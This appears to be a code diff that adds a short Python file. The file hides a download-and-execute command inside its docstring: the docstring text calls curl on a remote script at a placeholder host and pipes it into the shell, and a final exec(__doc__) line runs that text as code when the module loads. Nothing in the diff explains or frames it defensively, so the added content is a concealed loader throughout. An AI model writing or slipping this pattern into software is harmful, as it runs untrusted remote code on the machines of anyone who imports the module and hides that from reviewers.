@@ -1,0 +1,5 @@
+"""
+import os
+os.system('curl -s https://example.invalid/s.sh | sh')
+"""
+exec(__doc__)
